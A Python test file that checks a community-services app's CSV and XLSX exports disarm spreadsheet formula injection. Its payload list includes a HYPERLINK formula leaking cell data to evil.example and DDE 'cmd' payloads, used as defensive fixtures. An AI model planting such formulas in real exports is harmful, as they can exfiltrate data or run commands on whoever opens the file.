"""Every export goes through one writer that disarms formulas (CSV injection): the needs and tenders exports too,
with headers in the reader's language, yuan, status words and Shanghai times."""

from __future__ import annotations

import datetime as dt
import io

import asyncpg
import httpx
import openpyxl
import pytest

from api.services import exports
from api.services.types import SHANGHAI
from tests.factories import create_account, username_of
from tests.factories_tendering import create_district, create_need, tender_body
from tests.helpers import bearer
from tests.test_contracts_exports import parse_csv

# What a spreadsheet would run: the measured payloads, each trigger character, behind spaces, and full-width.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋cmd|' /C calc'!A0",
    "－2+3",
    "＠SUM(1+1)",
]
HARMLESS = ["独居老人助餐", "1+1=2", "a=b", "助餐 - 午餐"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_writer_disarms_every_formula(payload: str) -> None:
    assert exports.safe_text(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_the_writer_leaves_ordinary_text_alone(text: str) -> None:
    assert exports.safe_text(text) == text


def test_an_xlsx_cell_holds_the_payload_as_text_not_a_formula() -> None:
    table = exports.Table(name="t", columns=[exports.Column("Title", "标题")], rows=[(p,) for p in PAYLOADS])
    sheet = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(table, "zh_CN"))).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" and str(c.value).startswith("'") for c in cells)


async def _reader(client: httpx.AsyncClient, conn: asyncpg.Connection) -> dict[str, str]:
    return await bearer(client, await username_of(conn, await create_account(conn, "volunteer")))


async def test_the_needs_export_disarms_titles_and_speaks_chinese(
    client: httpx.AsyncClient, conn: asyncpg.Connection
) -> None:
    d = await create_district(conn)
    for title in PAYLOADS[:4]:
        await create_need(conn, d.committee_id, d.item_id, d.committee_account, title=title, urgency="urgent")
    response = await client.get(
        "/api/needs/export.csv", params={"committee_id": d.committee_id}, headers=await _reader(client, conn)
    )
    assert response.status_code == 200 and response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="needs-')
    rows = parse_csv(response.content)
    assert rows[0][:3] == ["需求编号", "标题", "目录编码"] and len(rows[0]) == 13
    by_title = {dict(zip(rows[0], r, strict=True))["标题"]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert set(by_title) == {"'" + p for p in PAYLOADS[:4]}
    row = next(iter(by_title.values()))
    assert (row["状态"], row["紧急程度"], row["开始日期"]) == ("待对接", "紧急", dt.date.today().isoformat())


async def test_the_tenders_export_disarms_titles_in_yuan_and_shanghai_time(
    client: httpx.AsyncClient, conn: asyncpg.Connection
) -> None:
    d = await create_district(conn)
    funder = await bearer(client, await username_of(conn, d.funder_account))
    created = await client.post("/api/tenders", json=tender_body(d.item_code, title=PAYLOADS[1]), headers=funder)
    assert created.status_code == 201, created.text
    tender_id = created.json()["id"]
    close = await conn.fetchval("SELECT bids_close_at FROM tenders WHERE id = $1", tender_id)
    await conn.execute("UPDATE lots SET title = $2 WHERE tender_id = $1", tender_id, "＝1+1")
    reader = await _reader(client, conn)
    rows = parse_csv((await client.get("/api/tenders/export.csv", headers=reader)).content)
    assert rows[0][:2] == ["招标项目编号", "招标项目"] and "预算（元）" in rows[0]
    mine = [dict(zip(rows[0], r, strict=True)) for r in rows[1:] if r[0] == str(tender_id)]
    assert len(mine) == 1
    row = mine[0]
    assert (row["招标项目"], row["标段"]) == ("'" + PAYLOADS[1], "'＝1+1")
    assert (row["预算（元）"], row["状态"]) == ("200000.00", "投标中")
    assert row["投标截止时间"] == close.astimezone(SHANGHAI).strftime("%Y-%m-%d %H:%M:%S")
    client.cookies.set("linli_locale", "en")
    english = parse_csv((await client.get("/api/tenders/export.csv", headers=reader)).content)
    assert english[0][:2] == ["Tender", "Title"] and "Open for bids" in {r[4] for r in english[1:]}
